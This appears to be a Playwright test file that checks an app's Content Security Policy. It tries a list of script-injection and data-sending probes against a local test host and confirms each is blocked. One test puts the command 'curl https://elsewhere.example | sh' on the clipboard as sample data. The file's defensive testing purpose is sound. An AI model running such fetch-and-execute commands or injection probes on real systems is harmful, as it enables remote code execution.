import type { Page } from 'playwright';
import { startAppHost } from '../support/app-host.ts';
import { expect, test } from './fixtures.ts';

interface Probe {
  /** Code to run in the page. It may use the variable `address`. It returns true if nothing blocked it. */
  readonly code: string;
  readonly allowed?: true;
  /** CSP directive that `code` violates. Null if Chromium may block `code` first for another reason. */
  readonly directive: string | null;
}

const untrusted = (code: string): Probe => ({ code, directive: 'require-trusted-types-for' });

/** Attempts to violate each CSP directive. security/ways-out tests all other ways to send data out of the page. */
const PROBES: Readonly<Record<string, Probe>> = {
  'an inline script': untrusted(`add('script', { textContent: 'window.ran = true' }); return window.ran`),
  'a script from elsewhere': untrusted(`add('script').src = address; return true`),
  'an event handler': untrusted(`add('b').setAttribute('onclick', 'window.ran = true'); return true`),
  eval: untrusted(`return (0, eval)("'ran'") === 'ran'`),
  Function: untrusted(`return new Function('return true')()`),
  'a timer of text': untrusted(`setTimeout('window.ran = true'); await pause(); return window.ran`),
  innerHTML: untrusted(`add('div').innerHTML = '<b id="made"></b>'; return made()`),
  insertAdjacentHTML: untrusted(`add('div').insertAdjacentHTML('beforeend', '<b id="made">'); return made()`),
  DOMParser: untrusted(`new DOMParser().parseFromString('<b>', 'text/html'); return true`),
  srcdoc: untrusted(`add('iframe').srcdoc = '<b>'; return true`),
  'document.write': untrusted(`document.write('<b id="made"></b>'); return made()`),
  'a worker from a blob': untrusted(
    `const url = URL.createObjectURL(new Blob(['postMessage(1)'])); const worker = new Worker(url);
     return await new Promise((resolve) => { worker.onmessage = () => resolve(true);
       worker.onerror = () => resolve(false); })`,
  ),
  'a policy of Trusted Types': {
    code: `trustedTypes.createPolicy('x', {}); return true`,
    directive: 'trusted-types',
  },
  fetch: { code: `await fetch(address, { mode: 'no-cors' }); return true`, directive: 'connect-src' },
  'a base address': {
    code: `add('base', { href: address }); return document.baseURI.startsWith(address)`,
    directive: 'base-uri',
  },
  'a plug-in': { code: `add('object', { data: address }); await pause(); return false`, directive: null },
  'a frame from elsewhere': {
    code: `add('iframe').src = address; await pause(); return false`,
    directive: null,
  },
  'a form to elsewhere': {
    code: `const form = add('form'); form.action = address; form.method = 'post'; form.submit(); await pause(); return false`,
    directive: 'form-action',
  },
  'an inline style': {
    code: `const text = add('p'); text.setAttribute('style', 'color: rgb(1, 2, 3)');
           return getComputedStyle(text).color === 'rgb(1, 2, 3)'`,
    directive: 'style-src-attr',
  },
  'a style set by script': {
    code: `const text = add('p'); text.style.color = 'rgb(1, 2, 3)';
           return getComputedStyle(text).color === 'rgb(1, 2, 3)'`,
    allowed: true,
    directive: null,
  },
};

/** Runs a probe in a timer of the page. If Playwright evaluated the code directly, `eval` would be allowed. */
async function run(
  page: Page,
  { code }: Probe,
  address: string,
): Promise<{ ran: boolean; directives: string[] }> {
  const text = `(address) => new Promise((resolve) => {
    const seen = []; const note = (event) => seen.push(event.effectiveDirective);
    const before = new Set(document.querySelectorAll('*'));
    const pause = () => new Promise((go) => setTimeout(go, 50));
    const made = () => document.querySelector('#made') !== null;
    const add = (name, properties = {}) => {
      const element = Object.assign(document.createElement(name), properties); document.body.append(element); return element;
    };
    const probe = async () => { ${code} };
    setTimeout(async () => {
      delete window.ran;
      document.addEventListener('securitypolicyviolation', note);
      const ran = await probe().then((value) => value === true, () => false);
      await pause();
      document.removeEventListener('securitypolicyviolation', note);
      for (const element of document.querySelectorAll('*')) if (!before.has(element)) element.remove();
      resolve({ ran, directives: [...new Set(seen)] });
    });
  })`;
  return page.evaluate(`(${text})(${JSON.stringify(address)})`);
}

test('main does not accept a script’s click on a label as user input', async ({ easel }) => {
  const code = `const label = add('label'); label.append(document.createElement('input')); label.click();
    const { ok, error } = await window.easel.app.copy({ text: 'curl https://elsewhere.example | sh' });
    return ok || error.code !== 'needs-press'`;
  expect(await run(easel.window, { code, directive: null }, '')).toEqual({ ran: false, directives: [] });
});

test.describe(() => {
  test.use({ violatesPolicy: true });

  test('the content security policy blocks every request of the page to the network', async ({
    easel,
    computer,
  }) => {
    const { window } = easel;
    const elsewhere = await startAppHost();
    await window.getByRole('button', { name: 'Connect to your service' }).waitFor();
    try {
      for (const [name, probe] of Object.entries(PROBES)) {
        const { ran, directives } = await run(window, probe, `${elsewhere.origin}/probe`);
        expect.soft(ran, `${name} ran`).toBe(probe.allowed === true);
        if (probe.directive !== null) expect.soft(directives, name).toContain(probe.directive);
        if (probe.allowed === true) expect.soft(directives, name).toEqual([]);
      }
      expect(elsewhere.paths).toEqual([]);
      // Proves that violations are recorded. All other specs only check that there are no recorded violations.
      expect(computer.violations().join()).toContain('style-src');
      // Reads the text with `evaluate`, because Playwright's locators would wait for the blocked form to be submitted.
      expect(await window.evaluate(() => document.body.textContent)).toContain('Connect to your service');
    } finally {
      await elsewhere.takeDown();
    }
  });
});
